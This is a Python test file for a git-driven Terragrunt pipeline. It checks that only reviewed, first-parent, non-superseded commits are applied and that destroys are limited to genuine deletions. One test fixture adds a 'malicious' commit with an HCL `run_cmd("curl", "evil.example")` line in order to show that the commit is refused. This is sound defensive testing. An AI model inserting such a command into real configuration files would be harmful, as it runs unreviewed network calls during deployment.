"""Apply and destroy only what was reviewed (issue 12): first-parent commits of the default branch only, refused
when superseded by a later first-parent commit, destroy only at the parent of the commit that deleted the unit,
never for a move; with `authentication`, a unit job with no account is refused. Real git history, through the CLI;
every refusal exits 2 with one line and runs no tool."""

from __future__ import annotations

import json
from pathlib import Path

from testing.executor_fixtures import FAST_CONFIG, Standin, execute, job, write_config
from testing.gitrepo import GitRepo

DEV = "non-prod/us-east-1/dev"
VPC = f"{DEV}/vpc"
REDIS = f"{DEV}/redis"


def merge(repo: GitRepo, branch: str, message: str) -> str:
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--no-ff", "-m", message, branch)
    return repo.head()


def pull_request(repo: GitRepo, branch: str, edits: list[tuple[str, str]]) -> list[str]:
    """A branch off main with one commit per (file, appended text); returns the commits."""
    repo.git("checkout", "-q", "-b", branch, "main")
    shas = []
    for rel, text in edits:
        repo.append(rel, text)
        shas.append(repo.commit(f"{branch}: {rel}"))
    return shas


def refused(res_code: int, err: str) -> str:
    lines = err.strip().splitlines()
    assert res_code == 2 and len(lines) == 1, err
    return lines[0]


def test_an_intermediate_commit_of_a_merged_pull_request_is_never_applied(
    dev_live: GitRepo, tmp_path: Path, standin: Standin
) -> None:
    """X (malicious) then Y (its revert), merged with a merge commit: reviewers saw an empty diff, so X is refused."""
    hcl = f"{VPC}/terragrunt.hcl"
    original = dev_live.read(hcl)
    dev_live.git("checkout", "-q", "-b", "evil")
    dev_live.append(hcl, '\n# malicious\nlocals {\n  x = run_cmd("curl", "evil.example")\n}\n')
    bad = dev_live.commit("X: malicious")
    dev_live.write(hcl, original)
    dev_live.commit("Y: revert X")
    tip = merge(dev_live, "evil", "Merge pull request #1")
    res = execute(dev_live.path, tmp_path / "r", "--job", json.dumps(job(VPC, "apply", bad)))
    line = refused(res.code, res.err)
    assert f"job apply:{VPC}: ref: apply refused: commit {bad[:12]} is inside a merged pull request" in line
    assert "first-parent commit of 'main'" in line
    assert standin.applied() == []  # no tool ran
    # The merge commit itself (the reviewed, net diff) is applied.
    ok = execute(dev_live.path, tmp_path / "r2", "--job", json.dumps(job(VPC, "apply", tip)))
    assert ok.code == 0, ok.err
    assert standin.applied() == [VPC]


def test_an_older_merge_is_superseded_by_a_later_one_that_changed_the_unit(
    dev_live: GitRepo, tmp_path: Path, standin: Standin
) -> None:
    (first,) = pull_request(dev_live, "one", [(f"{VPC}/terragrunt.hcl", "\n# one\n")])
    m1 = merge(dev_live, "one", "Merge #1")
    pull_request(dev_live, "two", [(f"{VPC}/terragrunt.hcl", "\n# two\n")])
    m2 = merge(dev_live, "two", "Merge #2")
    old = execute(dev_live.path, tmp_path / "r1", "--job", json.dumps(job(VPC, "apply", m1)))
    line = refused(old.code, old.err)
    assert f"apply refused: superseded by {m2}" in line and "re-run the pipeline of 'main''s tip" in line
    assert standin.applied() == []
    assert execute(dev_live.path, tmp_path / "r3", "--job", json.dumps(job(VPC, "apply", m2))).code == 0
    # A unit the later merge did not touch (nor anything it reads) is still applied at the older merge.
    redis = execute(dev_live.path, tmp_path / "r2", "--job", json.dumps(job(REDIS, "apply", m1)))
    assert redis.code == 0, redis.err
    assert standin.applied() == [REDIS, VPC]
    assert first  # the branch commit itself is refused like any intermediate commit
    assert "inside a merged pull request" in refused(
        *_code_err(execute(dev_live.path, tmp_path / "r4", "--job", json.dumps(job(VPC, "apply", first))))
    )


def test_a_later_change_to_a_file_the_unit_reads_supersedes_it(
    dev_live: GitRepo, tmp_path: Path, standin: Standin
) -> None:
    """env.hcl is read by every unit of the environment: changing it later supersedes an older apply of vpc."""
    pull_request(dev_live, "one", [(f"{VPC}/terragrunt.hcl", "\n# one\n")])
    m1 = merge(dev_live, "one", "Merge #1")
    pull_request(dev_live, "env", [(f"{DEV}/env.hcl", "\n# env\n")])
    m2 = merge(dev_live, "env", "Merge #2")
    res = execute(dev_live.path, tmp_path / "r", "--job", json.dumps(job(VPC, "apply", m1)))
    assert f"superseded by {m2}" in refused(res.code, res.err)


def test_a_rerun_after_a_revert_is_refused(dev_live: GitRepo, tmp_path: Path, standin: Standin) -> None:
    hcl = f"{VPC}/terragrunt.hcl"
    original = dev_live.read(hcl)
    dev_live.append(hcl, "\n# change\n")
    change = dev_live.commit("change vpc")
    dev_live.write(hcl, original)
    revert = dev_live.commit("Revert: change vpc")
    res = execute(dev_live.path, tmp_path / "r", "--job", json.dumps(job(VPC, "apply", change)))
    assert f"superseded by {revert}" in refused(res.code, res.err)


def test_a_moved_unit_is_never_destroyed(dev_live: GitRepo, tmp_path: Path, standin: Standin) -> None:
    before = dev_live.head()
    dev_live.move(f"{DEV}/bastion", f"{DEV}/jumphost")
    dev_live.commit("rename bastion to jumphost")
    res = execute(dev_live.path, tmp_path / "r", "--job", json.dumps(job(f"{DEV}/bastion", "destroy", before)))
    line = refused(res.code, res.err)
    assert "destroy refused" in line and "did not delete unit" in line and "move the state instead" in line
    assert standin.applied() == []


def test_a_deleted_unit_is_destroyed_only_at_the_parent_of_the_deleting_commit(
    dev_live: GitRepo, tmp_path: Path, standin: Standin
) -> None:
    bastion = f"{DEV}/bastion"
    assert (
        execute(dev_live.path, tmp_path / "seed", "--job", json.dumps(job(bastion, "apply", dev_live.head()))).code == 0
    )
    before = dev_live.head()
    dev_live.append(f"{VPC}/terragrunt.hcl", "\n# unrelated\n")
    unrelated = dev_live.commit("unrelated change first")
    dev_live.delete(bastion)
    dev_live.commit("delete bastion")
    # At the parent of the deleting commit: destroyed.
    ok = execute(dev_live.path, tmp_path / "ok", "--job", json.dumps(job(bastion, "destroy", unrelated)))
    assert ok.code == 0, ok.err
    assert standin.state(bastion)["resources"] == []  # type: ignore[index]
    # At the base of a push of both commits (the first left bastion unchanged): the same state, destroyed again
    # (nothing left to destroy).
    again = execute(dev_live.path, tmp_path / "again", "--job", json.dumps(job(bastion, "destroy", before)))
    assert again.code == 0, again.err


def test_a_destroy_at_a_commit_before_a_change_of_the_unit_is_refused(
    dev_live: GitRepo, tmp_path: Path, standin: Standin
) -> None:
    bastion = f"{DEV}/bastion"
    before = dev_live.head()
    dev_live.append(f"{bastion}/terragrunt.hcl", "\n# changed before its deletion\n")
    changed = dev_live.commit("change bastion")
    dev_live.delete(bastion)
    dev_live.commit("delete bastion")
    res = execute(dev_live.path, tmp_path / "r", "--job", json.dumps(job(bastion, "destroy", before)))
    line = refused(res.code, res.err)
    assert f"commit {changed[:12]} did not delete unit" in line


def test_with_authentication_a_unit_with_no_account_is_refused(
    dev_live: GitRepo, tmp_path: Path, standin: Standin
) -> None:
    config = write_config(
        tmp_path / "pipelines.yml",
        FAST_CONFIG + "authentication:\n  accounts:\n"
        "    non-prod: {account_id: '111122223333', plan_role: gwpipelines-plan, apply_role: gwpipelines-apply}\n",
    )
    dev_live.write("shared/logs/terragrunt.hcl", 'terraform {\n  source = "../modules/x"\n}\n')
    sha = dev_live.commit("a unit outside every account's folder")
    jobs = [job(VPC, "plan", sha), job("shared/logs", "plan", sha, account=None)]
    jobs_file = tmp_path / "jobs.json"
    jobs_file.write_text(json.dumps(jobs))
    res = execute(dev_live.path, tmp_path / "r", "--config", str(config), "--jobs-file", str(jobs_file))
    line = refused(res.code, res.err)
    assert "job plan:shared/logs: account: unit 'shared/logs' belongs to no account" in line
    assert "add an entry 'shared' to accounts.yml" in line and "authentication.accounts.shared" in line
    assert standin.applied() == [] and not (tmp_path / "r" / "logs").exists()


def _code_err(res: object) -> tuple[int, str]:
    return res.code, res.err  # type: ignore[attr-defined]


def test_an_account_job_is_superseded_only_by_a_later_change_of_that_account(tmp_path: Path) -> None:
    """The history rule for account jobs, with the orchestrator's answer per commit injected."""
    from gwpipelines.executor.history import History, HistoryRefusal
    from gwpipelines.models import Action, Change, ChangeType, Event, Job, Orchestration

    repo = GitRepo.init(tmp_path / "live")
    first = repo.commit("add sandbox")
    other = repo.commit("add another account")
    again = repo.commit("change sandbox")
    changed = {
        other: Change(ChangeType.ACCOUNT_ADDED, None, "other", ("accounts.yml",)),
        again: Change(ChangeType.ACCOUNT_CHANGED, None, "sandbox", ("accounts.yml",)),
    }

    def analyse(_repo: Path, base: str, head: str) -> Orchestration:
        return Orchestration(base, head, Event("push"), (changed[head],), (), ())

    create = Job("account-create:sandbox", None, Action.ACCOUNT_CREATE, first, "sandbox", ())
    history = History(repo.path, "main", again, analyse=analyse)
    try:
        history.check(create)
    except HistoryRefusal as e:
        assert f"superseded by {again}" in str(e)
    else:
        raise AssertionError("an account-create at an older commit than a change of that account was accepted")
    History(repo.path, "main", other, analyse=analyse).check(create)  # another account's entry: still current
